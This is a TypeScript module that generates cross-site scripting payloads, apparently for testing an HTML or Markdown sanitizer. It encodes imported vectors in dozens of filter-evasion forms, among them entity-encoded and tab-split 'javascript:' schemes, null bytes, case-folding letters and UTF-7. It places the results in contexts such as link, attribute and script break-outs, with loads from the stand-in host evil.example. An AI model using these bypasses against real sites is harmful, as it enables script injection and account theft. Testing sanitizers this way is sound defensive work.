import { type Kind, type Vector, vectors } from "./vectors.ts";

/** One text to be typed: a vector, encoded, in a context. `__ran(n)` in it would tell that it ran, a request of //evil.example/n that it loaded. */
export interface Payload {
  n: number;
  vector: Vector;
  encoding: string;
  context: string;
  text: string;
}

/** Follows each payload wherever it is put, so that a page can be seen to show it. */
export const markOf = ({ n }: Payload): string => `q${n}q`;

const turned = (text: string, each: (word: string) => string): string => text.replace(/<\/?[a-z]+(?=[\s/>])|\bon[a-z]+(?=\s*=)|\b(?:javascript|vbscript|data)(?=:)/gi, each);
const scheme = (text: string, each: (word: string) => string): string => text.replace(/\b(?:javascript|vbscript|livescript|data)(?=:)/gi, each);
const call = (text: string, name: string): string => text.replaceAll("__ran", name);
const every = (text: string, each: (character: string, i: number) => string): string => [...text].map(each).join("");
const code = (character: string): number => character.codePointAt(0)!;
const percent = (text: string): string => every(text, (c) => (/[\w]/.test(c) ? c : encodeURIComponent(c)));
const full = (text: string): string => every(text, (c) => ("<>\"'=:/".includes(c) ? String.fromCodePoint(code(c) + 0xfee0) : c));
const utf7 = (text: string): string => text.replace(/[<>"'=]/g, (c) => `+${Buffer.from([0, code(c)]).toString("base64").replace(/=+$/, "")}-`);

/** Ways of writing the same so that a filter would miss it. */
const encodings: Record<string, (text: string) => string> = {
  plain: (text) => text,
  "upper case": (text) => turned(text, (word) => word.toUpperCase()),
  "mixed case": (text) => turned(text, (word) => every(word, (c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase()))),
  "the scheme in decimal entities": (text) => scheme(text, (word) => every(word, (c) => `&#${code(c)};`)),
  "the scheme in hexadecimal entities": (text) => scheme(text, (word) => every(word, (c) => `&#x${code(c).toString(16)};`)),
  "the scheme in entities without their end": (text) => scheme(text, (word) => every(word, (c) => `&#${String(code(c)).padStart(7, "0")}`)),
  "the colon by its name": (text) => text.replace(/(script|data):/gi, "$1&colon;"),
  "a tab in the scheme": (text) => scheme(text, (word) => `${word.slice(0, 3)}\t${word.slice(3)}`),
  "an encoded tab in the scheme": (text) => scheme(text, (word) => `${word.slice(0, 3)}&Tab;${word.slice(3)}`),
  "an encoded line in the scheme": (text) => scheme(text, (word) => `${word.slice(0, 2)}&NewLine;${word.slice(2)}`),
  "a line in the scheme": (text) => scheme(text, (word) => `${word.slice(0, 2)}\r\n${word.slice(2)}`),
  "control characters before the scheme": (text) => scheme(text, (word) => `\u0001\u0019 ${word}`),
  "a soft hyphen in the scheme": (text) => scheme(text, (word) => `${word.slice(0, 4)}\u00ad${word.slice(4)}`),
  "nothing in the scheme": (text) => scheme(text, (word) => `${word.slice(0, 4)}\u0000${word.slice(4)}`),
  "nothing in the tag": (text) => turned(text, (word) => `${word.slice(0, 3)}\u0000${word.slice(3)}`),
  "a form feed after the tag": (text) => text.replace(/(<[a-z]+)[ /]/gi, "$1\f"),
  "slashes for spaces": (text) => text.replace(/(<[a-z]+) /gi, "$1/").replace(/ (on[a-z]+=)/gi, "/$1"),
  "letters that fold to others": (text) => turned(text, (word) => word.replaceAll("s", "\u017f").replaceAll("k", "\u212a")),
  "all in decimal entities": (text) => every(text, (c) => `&#${code(c)};`),
  "all in hexadecimal entities": (text) => every(text, (c) => `&#x${code(c).toString(16)};`),
  "brackets in entities": (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  "brackets in entities twice": (text) => text.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  "percent-encoded": percent,
  "percent-encoded twice": (text) => percent(percent(text)),
  "wide characters": full,
  "UTF-7": utf7,
  "the call in escapes of scripts": (text) => call(text, "\\u005f\\u{5f}ran"),
  "the call by its name in an object": (text) => call(text, "window['__'+'ran']"),
  "the call without brackets": (text) => text.replace(/__ran\((\d+)\)/g, "__ran`$1`"),
  "the call in entities": (text) => call(text, "&#x5f;&lowbar;ran"),
  "brackets in escapes of scripts": (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\x3e"),
  "quotation marks left out": (text) => text.replace(/=(["'])([^"'\s>]+)\1/g, "=$2"),
  "quotation marks of the other kind": (text) => every(text, (c) => (c === '"' ? "'" : c === "'" ? '"' : c)),
  "back-slashes of Markdown": (text) => text.replace(/([<[\]!])/g, "\\$1"),
  "marks of direction": (text) => `\u202e${text}\u202c\u200f`,
};

const fits = (...kinds: Kind[]) => kinds;
const links = fits("link");
const texts = fits("html", "markdown", "break-out", "clobbering", "template");
/** Where it stands. */
const contexts: Record<string, { for: Kind[]; put: (text: string) => string }> = {
  "a Markdown link": { for: links, put: (text) => `[x](${text})` },
  "a Markdown link in brackets": { for: links, put: (text) => `[x](<${text}>)` },
  "a Markdown reference": { for: links, put: (text) => `[x][y]\n\n[y]: ${text}` },
  "a Markdown address": { for: links, put: (text) => `<${text}>` },
  "a Markdown picture": { for: links, put: (text) => `![x](${text})` },
  "a link": { for: links, put: (text) => `<a href="${text}">x</a>` },
  "a link of a drawing": { for: links, put: (text) => `<svg><a xlink:href='${text}'><text y=9>x</text></a></svg>` },
  "a frame": { for: links, put: (text) => `<iframe src="${text}"></iframe>` },
  "an object": { for: links, put: (text) => `<object data="${text}"></object>` },
  "a form": { for: links, put: (text) => `<form action="${text}"><input type=submit value=x></form>` },
  "a picture": { for: links, put: (text) => `<img src="${text}">` },
  "a script's address": { for: links, put: (text) => `<script src="${text}"></script>` },
  "a refresh": { for: links, put: (text) => `<meta http-equiv=refresh content="0;url=${text}">` },
  alone: { for: fits(...texts, "link"), put: (text) => text },
  "after words": { for: texts, put: (text) => `Seen at the quay ${text} after dark` },
  "in Markdown's strong words": { for: texts, put: (text) => `**${text}**` },
  "in a Markdown link": { for: texts, put: (text) => `[${text}](https://www.gov.uk)` },
  "in a Markdown link's title": { for: texts, put: (text) => `[x](https://www.gov.uk "${text}")` },
  "in a Markdown heading": { for: texts, put: (text) => `# ${text}` },
  "in a Markdown list": { for: texts, put: (text) => `- x\n  - ${text}` },
  "in a Markdown quotation": { for: texts, put: (text) => `> ${text}` },
  "in a Markdown table": { for: texts, put: (text) => `| x |\n|---|\n| ${text} |` },
  "after Markdown code": { for: texts, put: (text) => `\`\`\`\nx\n\`\`\`\n${text}` },
  "in Markdown code": { for: texts, put: (text) => `\`${text}\`` },
  "out of an attribute": { for: texts, put: (text) => `">${text}` },
  "out of an attribute of the other kind": { for: texts, put: (text) => `'>${text}` },
  "out of a comment": { for: texts, put: (text) => `-->${text}` },
  "out of a script": { for: texts, put: (text) => `</script>${text}` },
  "out of a title and a text box": { for: texts, put: (text) => `</title></textarea></style></noscript>${text}` },
  "out of a section of characters": { for: texts, put: (text) => `]]>${text}` },
  "in JSON": { for: texts, put: (text) => JSON.stringify({ name: text }) },
  "between unseen characters": { for: texts, put: (text) => `\u200b${text}\u2028` },
};

const filled = (text: string, n: number): string =>
  text.replaceAll("BASE64", Buffer.from(`<script>__ran(${n})</script>`).toString("base64")).replaceAll("RUN", `__ran(${n})`).replaceAll("EVIL", `//evil.example/${n}`).replaceAll("NUMBER", String(n));

const ways = Object.entries(encodings);
/** In how many other encodings, and in how many contexts, each vector is written. What is an address has more of both: it is where filters were passed by most often. */
const turns = (kind: Kind) => (kind === "link" ? { encoded: 14, placed: 9 } : { encoded: 4, placed: 4 });

/**
 * All payloads, always the same and no two alike: each vector as it is; in other encodings (addresses within a link); and in other contexts, the first of them encoded as well.
 * One vector begins where the last one stopped, so that all together go through every encoding and every context.
 */
function make(): Payload[] {
  const made = new Map<string, Payload>();
  let way = 1;
  let where = 0;
  const add = (vector: Vector, encoding: string, context: string): boolean => {
    const n = made.size + 1;
    const text = contexts[context]!.put(encodings[encoding]!(filled(vector.text, n)));
    // Alike but for their numbers: the encoding changes nothing here.
    const key = text.replaceAll(String(n), "#");
    if (made.has(key)) return false;
    made.set(key, { n, vector, encoding, context, text });
    return true;
  };
  for (const vector of vectors) {
    const { encoded, placed } = turns(vector.kind);
    const others = Object.entries(contexts).filter(([name, context]) => name !== "alone" && context.for.includes(vector.kind)).map(([name]) => name);
    add(vector, "plain", "alone");
    for (let done = 0, tried = 0; done < encoded && tried < 2 * ways.length; tried++) if (add(vector, ways[way++ % ways.length]![0], vector.kind === "link" ? others[done % 6]! : "alone")) done++;
    for (let done = 0, tried = 0; done < placed && tried < others.length; tried++) if (add(vector, done === 0 ? ways[way % ways.length]![0] : "plain", others[where++ % others.length]!)) done++;
  }
  return [...made.values()];
}

export const payloads = make();

/** Some of them: of each vector in turn another one, as many as asked for. */
export function some(most: number): Payload[] {
  const by = vectors.map((vector) => payloads.filter((payload) => payload.vector === vector));
  const picked = by.map((own, i) => own[(i * 5) % own.length]!);
  const step = picked.length / Math.min(most, picked.length);
  return Array.from({ length: Math.min(most, picked.length) }, (_, i) => picked[Math.floor(i * step)]!);
}
